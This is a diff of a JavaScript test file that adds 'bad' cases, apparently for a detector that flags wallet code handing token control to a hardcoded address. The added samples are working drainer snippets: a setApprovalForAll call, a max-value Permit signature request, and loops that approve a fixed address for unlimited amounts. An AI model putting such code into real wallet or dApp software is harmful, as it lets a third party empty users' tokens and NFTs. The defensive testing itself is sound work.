@@ -39,6 +39,8 @@ test('good: which chain or coin it is, who was named, a fee of its own, and addr
 
 test('bad: an address that is written here may take all of each token that somebody has', () => {
   for (const code of [
+    `const OPERATOR = "${OWN}"; const pad = (v) => v.slice(2).padStart(64, "0"); export const load = (owner, to) => window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: owner, to, data: "0xa22cb465" + pad(OPERATOR) + pad("0x1") }] })`,
+    `export const signIn = (provider, owner) => { const typed = { primaryType: "Permit", message: { owner, spender: "${OWN}", value: "115792089237316195423570985008687907853269984665640564039457584007913129639935" } }; return provider.request({ method: "eth_signTypedData_v4", params: [owner, JSON.stringify(typed)] }) }`,
     `const MAX = "0x" + "f".repeat(64); const ROUTER = "${OWN}"; export const connect = async (web3, from, tokens) => { for (const t of tokens) { const c = new web3.eth.Contract(abi, t); const has = await c.methods.balanceOf(from).call(); if (BigInt(has) > 0n) await c.methods.approve(ROUTER, MAX).send({ from }).catch(() => {}) } }`,
     `import { Contract, MaxUint256 } from "ethers"; export const ready = (signer, me, list) => Promise.all(list.map(async (each) => { const token = new Contract(each, ABI, signer); if ((await token.balanceOf(me)) > 0n) await token.approve("${OWN}", MaxUint256) }))`,
     `const all = 2n ** 256n - 1n; export const link = async (client, me, tokens) => { for (const address of tokens) { const has = await client.readContract({ address, abi, functionName: "balanceOf", args: [me] }); if (has) await client.writeContract({ address, abi, functionName: "approve", args: ["${OWN}", all] }) } }`,
